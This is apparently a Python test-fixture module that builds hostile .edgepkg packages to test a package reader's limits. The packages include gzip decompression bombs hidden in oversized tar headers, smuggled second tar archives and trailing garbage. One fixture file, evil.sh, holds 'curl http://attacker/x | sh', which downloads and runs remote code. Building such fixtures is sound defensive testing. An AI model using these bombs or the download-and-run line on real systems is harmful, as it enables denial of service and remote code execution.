"""Hostile ``.edgepkg`` files for the reader's bound tests, made small on purpose: gzip
squeezes a gibibyte of zeros into about a megabyte, which is what made the attack cheap."""

from __future__ import annotations

import gzip
import io
import os
import struct
import tarfile
import zlib
from pathlib import Path

GIB = 1 << 30
_PIECE = 1 << 20


def gzip_with_zeros(prefix: bytes, zeros: int, suffix: bytes = b"") -> bytes:
    """A single gzip stream of ``prefix`` + ``zeros`` zero bytes + ``suffix``, built without
    compressing the zeros ``zeros / 1 MiB`` times: after a full flush deflate's state is reset,
    so every further MiB of zeros compresses to the very same bytes."""
    if zeros < _PIECE or zeros % _PIECE:
        raise ValueError("zeros must be a positive whole number of MiB")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [compressor.compress(prefix), compressor.flush(zlib.Z_FULL_FLUSH)]
    piece = compressor.compress(bytes(_PIECE)) + compressor.flush(zlib.Z_FULL_FLUSH)
    if compressor.compress(bytes(_PIECE)) + compressor.flush(zlib.Z_FULL_FLUSH) != piece:
        raise AssertionError("deflate did not reset after a full flush")
    # The probe's output is left out: after the flush it decompresses to nothing the stream needs.
    parts += [piece] * (zeros // _PIECE)
    parts += [compressor.compress(suffix), compressor.flush()]
    crc = zlib.crc32(prefix)
    zero_piece = bytes(_PIECE)
    for _ in range(zeros // _PIECE):
        crc = zlib.crc32(zero_piece, crc)
    crc = zlib.crc32(suffix, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    size = (len(prefix) + zeros + len(suffix)) & 0xFFFFFFFF
    return header + b"".join(parts) + struct.pack("<II", crc & 0xFFFFFFFF, size)


def _header(name: str, kind: bytes, size: int, fmt: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = size
    return info.tobuf(format=fmt)


def huge_pax_header(path: Path, declared: int = GIB) -> Path:
    """A first member preceded by a PAX ``x`` header declaring (and holding) ``declared`` bytes."""
    path.write_bytes(gzip_with_zeros(_header("././@PaxHeader", tarfile.XHDTYPE, declared, tarfile.USTAR_FORMAT),
                                     declared, bytes(1024)))
    return path


def huge_gnu_longname(path: Path, declared: int = GIB) -> Path:
    """A first member preceded by a GNU ``L`` long-name header declaring ``declared`` bytes."""
    path.write_bytes(gzip_with_zeros(_header("././@LongLink", tarfile.GNUTYPE_LONGNAME, declared,
                                             tarfile.GNU_FORMAT), declared, bytes(1024)))
    return path


def _tar(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


EVIL = {"evil.sh": b"#!/bin/sh\ncurl http://attacker/x | sh\n"}


def second_tar_in_stream(valid: Path, path: Path) -> Path:
    """The valid artifact's tar, then a second tar with evil.sh, in one gzip stream."""
    path.write_bytes(gzip.compress(gzip.decompress(valid.read_bytes()) + _tar(EVIL), mtime=0))
    return path


def second_tar_appended(valid: Path, path: Path) -> Path:
    """The valid artifact file with a second gzip member appended (what ``cat a b`` does)."""
    path.write_bytes(valid.read_bytes() + gzip.compress(_tar(EVIL), mtime=0))
    return path


def trailing_garbage(valid: Path, path: Path, garbage: bytes = b"garbage") -> Path:
    path.write_bytes(valid.read_bytes() + garbage)
    return path


def valid_artifact(folder: Path, key: Path, padding: int = 1_050_000) -> Path:
    """A real, loadable scale model (y = 2x) signed with ``key``, padded with ``padding``
    incompressible bytes to the hostile files' size (~1 MB). Written directly rather than by
    the packager, so the memory figures do not depend on it."""
    from edgepack_core.signing import load_private_key
    from sdk.artifact_writer import write_artifact
    from tests.artifacts import scale_model

    manifest = {
        "format": 1, "name": "scale", "version": "1.0.0", "created": "2026-01-01T00:00:00Z",
        "model": {"path": "model/model.onnx", "opset": 17, "ir_version": 8, "precision": "fp32",
                  "min_onnxruntime": "1.13.0"},
        "inputs": [{"name": "x", "dtype": "float32", "shape": ["batch", 4]}],
        "outputs": [{"name": "y", "dtype": "float32", "shape": ["batch", 4]}],
        "preprocess": {"kind": "tensor", "version": 1, "batch": False},
        "postprocess": {"kind": "raw", "version": 1},
        "targets": {"x86": {"providers": ["CPUExecutionProvider"]}},
        "files": {},
    }
    out = folder / "valid.edgepkg"
    write_artifact(out, manifest, {"model/model.onnx": scale_model(folder / "scale.onnx").read_bytes(),
                                   "assets/padding.bin": os.urandom(padding)}, [load_private_key(key)])
    return out
